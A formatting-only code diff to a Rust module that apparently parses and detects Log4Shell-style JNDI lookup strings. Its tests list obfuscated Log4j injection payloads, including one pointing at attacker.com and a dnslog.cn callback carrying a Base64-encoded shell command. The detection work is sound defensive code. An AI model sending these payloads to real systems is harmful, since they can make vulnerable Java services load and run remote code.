@@ -178,7 +178,8 @@ fn jndi_info(target: &str, complete: bool) -> JndiInfo {
         Some(p) => (&target[..p], &target[p + 1..]),
         None => (target, ""),
     };
-    let scheme: String = scheme.chars().filter(|c| c.is_ascii_alphanumeric()).collect::<String>().to_ascii_lowercase();
+    let scheme: String =
+        scheme.chars().filter(|c| c.is_ascii_alphanumeric()).collect::<String>().to_ascii_lowercase();
     let rest = rest.trim_start_matches('/');
     let (authority, path) = match rest.find('/') {
         Some(p) => (&rest[..p], &rest[p..]),
@@ -220,7 +221,10 @@ mod tests {
             ("${${:  :  : : :::   :: :: :  :::-j}ndi:ldap://", "ldap"),
             ("${${::::::::::::::-j}ndi:rmi://", "rmi"),
             ("${j${env:DOESNOTEXIST:-}ndi:ldap://", "ldap"),
-            ("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}", "ldap"),
+            (
+                "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.com/a}",
+                "ldap",
+            ),
             ("${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x/a}", "ldap"),
             ("${${base64:JHtqbmRpOmxkYXA6YWRkcn0=}}", "ldap"),
             ("${jn${base64:ZGk=}:ldap://}", "ldap"),
@@ -240,7 +244,10 @@ mod tests {
 
     #[test]
     fn target_is_taken_apart() {
-        let j = first("${jndi:ldap://spfcbf${lower:.}dnslog${lower:.}cn:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9w}").unwrap();
+        let j = first(
+            "${jndi:ldap://spfcbf${lower:.}dnslog${lower:.}cn:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9w}",
+        )
+        .unwrap();
         assert_eq!(j.host.as_deref(), Some("spfcbf.dnslog.cn"));
         assert_eq!(j.port, Some(1389));
         assert_eq!(j.path, "/Basic/Command/Base64/dG91Y2ggL3RtcC9w");
